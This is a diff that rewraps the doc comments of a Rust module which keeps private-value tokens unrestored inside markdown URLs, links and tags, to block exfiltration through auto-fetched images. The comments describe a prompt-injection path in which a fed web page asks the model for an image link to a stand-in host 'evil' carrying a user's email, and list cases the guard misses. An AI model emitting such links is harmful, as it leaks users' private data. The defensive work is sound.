@@ -1,21 +1,25 @@
 //! Where in a text for people a value must stay a token.
 //!
-//! A chat window fetches an image as soon as its markdown is complete. Text that a model was fed, a web page say,
-//! may ask it for `![](http://evil/?q=EMAIL_…)`; were the token restored there, showing the answer would send the
-//! value away. So four watchers read all that is emitted, one for each way in which a text names an address: URLs,
-//! link targets, reference definitions, and tags. Each one's veto is enough.
+//! A chat window fetches an image as soon as its markdown is complete. Text that a model was fed, a
+//! web page say, may ask it for `![](http://evil/?q=EMAIL_…)`; were the token restored there,
+//! showing the answer would send the value away. So four watchers read all that is emitted, one for
+//! each way in which a text names an address: URLs, link targets, reference definitions, and tags.
+//! Each one's veto is enough.
 //!
-//! The watchers know nothing of each other, on purpose. Markdown decides by precedence whether a bracket is a link's
-//! or a tag's, renderers disagree about it, and an attacker would write what we and they read differently. A watcher
-//! that takes every possible opening for a real one, and leaves only where every reading has left, cannot be led
-//! past by another's opinion. The price is a token that stays where a value would have done no harm.
+//! The watchers know nothing of each other, on purpose. Markdown decides by precedence whether a
+//! bracket is a link's or a tag's, renderers disagree about it, and an attacker would write what we
+//! and they read differently. A watcher that takes every possible opening for a real one, and
+//! leaves only where every reading has left, cannot be led past by another's opinion. The price is
+//! a token that stays where a value would have done no harm.
 //!
-//! A watcher sees each byte once and keeps no text, so a split of the stream cannot change what it says. Its state is a small value: an
-//! answer of many texts is read once for each way in which a client may join them ([`crate::Joined`]).
+//! A watcher sees each byte once and keeps no text, so a split of the stream cannot change what it
+//! says. Its state is a small value: an answer of many texts is read once for each way in which a
+//! client may join them ([`crate::Joined`]).
 //!
-//! What this does not stop: an address that only what follows a value makes one (`EMAIL_… .evil.example`), a list of
-//! strings that a program links across its quotes (`"http://evil/","EMAIL_…"`), and one that a person puts together
-//! by hand. Nothing fetches those by itself.
+//! What this does not stop: an address that only what follows a value makes one (`EMAIL_…
+//! .evil.example`), a list of strings that a program links across its quotes
+//! (`"http://evil/","EMAIL_…"`), and one that a person puts together by hand. Nothing fetches those
+//! by itself.
 
 mod definition;
 mod tag;
@@ -53,7 +57,8 @@ impl Watchers {
     }
 }
 
-/// What ends a word. Fewer than Unicode knows: some renderers end an address at fewer, and none at fewer than these.
+/// What ends a word. Fewer than Unicode knows: some renderers end an address at fewer, and none at
+/// fewer than these.
 fn is_space(byte: u8) -> bool {
     matches!(byte, b' ' | b'\t' | b'\n' | b'\r')
 }
